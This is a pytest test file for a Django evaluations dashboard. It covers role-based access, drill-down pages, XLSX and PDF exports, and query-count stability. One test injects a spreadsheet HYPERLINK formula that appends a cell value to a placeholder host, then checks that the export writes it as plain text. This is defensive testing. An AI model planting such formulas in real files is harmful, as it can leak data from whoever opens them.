"""evaluations.dashboard.views: the pages, who may open them, the exports, and
query counts that do not grow with the data."""

import io
from datetime import date

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from evaluations import dashboard as dash
from evaluations.dashboard import rollup
from tests.factories.facts import TODAY, grow, held_on
from tests.factories.times import freeze

Q3 = dash.Period("quarter", 2026, 3)


# --- pages ----------------------------------------------------------------------------


def url(name, pk, **params):
    query = "&".join(f"{k}={v}" for k, v in params.items())
    return reverse(f"evaluations:{name}", args=[pk]) + (f"?{query}" if query else "")


def test_committee_sees_the_ward_with_flags_and_notes(facts, persona_client):
    client = persona_client("committee")
    response = client.get(url("dashboard", facts.ward.pk, period="2026-Q3"))
    assert response.status_code == 200
    html = response.content.decode()
    assert facts.cell.name in html
    assert facts.cell2.name in html
    assert 'data-flag="missed_regular"' in html
    assert html.count('<details class="dash-note">') == len(dash.FIGURES)
    assert "5 / 6" in html
    assert "88,9 %" in html


def test_flag_to_meeting_in_two_clicks(facts, persona_client):
    client = persona_client("committee")
    html = client.get(
        url("dashboard", facts.ward.pk, period="2026-Q3")
    ).content.decode()
    first = url(
        "dashboard-meetings", facts.cell.pk, period="2026-Q3", figure="missed_regular"
    )
    assert first.replace("&", "&amp;") in html
    page = client.get(first).content.decode()
    assert 'data-month="2026-09"' in page
    assert "border-danger" in page
    july = facts.cell.meetings.get(planned_date=date(2026, 7, 3))
    assert july.get_absolute_url() in page


def test_cells_list_behind_a_flag(facts, persona_client):
    client = persona_client("committee")
    page = client.get(
        url("dashboard-cells", facts.ward.pk, period="2026-Q3", figure="few_officials")
    ).content.decode()
    assert facts.cell2.name in page
    assert facts.cell.name not in page


def test_province_root_lists_its_children(facts, persona_client):
    html = (
        persona_client("admin")
        .get(url("dashboard", facts.province.pk, period="2026-Q3"))
        .content.decode()
    )
    assert facts.ward.name in html
    assert facts.bloc.name in html


@pytest.mark.parametrize(
    ("persona", "node", "status"),
    [
        ("committee", "ward", 200),
        ("committee", "cell", 200),
        ("committee", "province", 404),
        ("committee", "other_cell", 404),
        ("secretary", "cell", 200),
        ("secretary", "ward", 404),
        ("supervisor", "cell", 200),
        ("member", "cell", 403),
        ("outsider", "cell", 404),
        ("admin", "province", 200),
    ],
)
def test_reach_and_role(facts, persona_client, persona, node, status):
    client = persona_client(persona)
    for name in ("dashboard", "dashboard-cells", "dashboard-xlsx"):
        response = client.get(url(name, getattr(facts, node).pk, period="2026-Q3"))
        assert response.status_code == status, name


def test_anonymous_is_sent_to_login(facts, client):
    response = client.get(url("dashboard", facts.ward.pk))
    assert response.status_code == 302
    assert "/login" in response["Location"]


def test_home_redirects_to_the_highest_node(facts, persona_client):
    response = persona_client("committee").get(reverse("evaluations:dashboard-home"))
    assert response["Location"] == reverse(
        "evaluations:dashboard", args=[facts.ward.pk]
    )
    assert (
        persona_client("member").get(reverse("evaluations:dashboard-home")).status_code
        == 403
    )


def test_xlsx_has_the_same_figures_and_flags(facts, persona_client):
    response = persona_client("committee").get(
        url("dashboard-xlsx", facts.ward.pk, period="2026-Q3")
    )
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    book = load_workbook(io.BytesIO(response.content))
    summary = {
        row[0]: row[1:3] for row in book.worksheets[0].iter_rows(values_only=True)
    }
    with translation.override("vi"):
        regular = str(dash.FIGURE_BY_KEY["regular"].label)
        attendance = str(dash.FIGURE_BY_KEY["attendance"].label)
        missed = str(dash.FLAG_BY_KEY["missed_regular"].label)
        few = str(dash.FLAG_BY_KEY["few_officials"].label)
        flag_labels = {str(flag.label) for flag in dash.FLAGS}
    assert summary[regular] == (5, 6)  # numbers, not the text "5 / 6"
    assert summary[attendance][0] == pytest.approx(8 / 9)  # exact, not the rounded text
    attendance_row = next(
        row for row in book.worksheets[0].iter_rows() if row[0].value == attendance
    )
    assert attendance_row[1].number_format == "0.0%"
    assert summary[missed][0] == 1
    assert summary[few][0] == 1
    cells = list(book.worksheets[2].iter_rows(values_only=True))
    header = cells[0]
    assert flag_labels <= set(header)
    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in cells[1:]}
    assert by_name[facts.cell.name][missed] == 1
    assert by_name[facts.cell.name][few] == 0
    assert by_name[facts.cell2.name][few] == 1


def test_xlsx_writes_names_as_text_never_formulas(facts, persona_client):
    import zipfile

    facts.cell.name = '=HYPERLINK("http://example.invalid/"&A2,"Bấm")'
    facts.cell.save()

    response = persona_client("committee").get(
        url("dashboard-xlsx", facts.ward.pk, period="2026-Q3")
    )

    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)
    book = load_workbook(io.BytesIO(response.content))
    names = [row[0] for row in book.worksheets[2].iter_rows(values_only=True)]
    assert facts.cell.name in names


def test_pdf_summary(facts, persona_client):
    from pypdf import PdfReader

    response = persona_client("committee").get(
        url("dashboard-pdf", facts.ward.pk, period="2026-Q3")
    )
    assert response["Content-Type"] == "application/pdf"
    text = "".join(
        p.extract_text() for p in PdfReader(io.BytesIO(response.content)).pages
    )
    assert facts.ward.name in text
    assert "5 / 6" in text
    fonts = PdfReader(io.BytesIO(response.content)).pages[0]["/Resources"]["/Font"]
    names = {str(font.get_object()["/BaseFont"]) for font in fonts.values()}
    assert any(name.endswith("+Chibo-Serif") for name in names), names  # static/fonts


# --- query counts -------------------------------------------------------------------


def _count(client, django_assert_num_queries, path):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as ctx:
        assert client.get(path).status_code == 200
    return len(ctx.captured_queries)


@pytest.mark.parametrize(
    "name",
    [
        "dashboard",
        "dashboard-cells",
        "dashboard-xlsx",
        "dashboard-pdf",
        "dashboard-meetings",
    ],
)
def test_query_counts_do_not_grow_from_3_to_30_cells(
    tree, monkeypatch, persona_client, django_assert_num_queries, name
):
    freeze(monkeypatch, TODAY)
    grow(tree.ward, 1)  # ward: cell, cell2 and 1 more = 3 cells
    rollup.rebuild(years=[2026])
    client = persona_client("committee")
    node = tree.cell if name == "dashboard-meetings" else tree.ward
    path = url(name, node.pk, period="2026")
    small = _count(client, django_assert_num_queries, path)
    grow(tree.ward, 27)
    for month in (1, 2):
        held_on(tree.cell, date(2026, month, 3))
    rollup.rebuild(years=[2026])
    large = _count(client, django_assert_num_queries, path)
    assert small == large
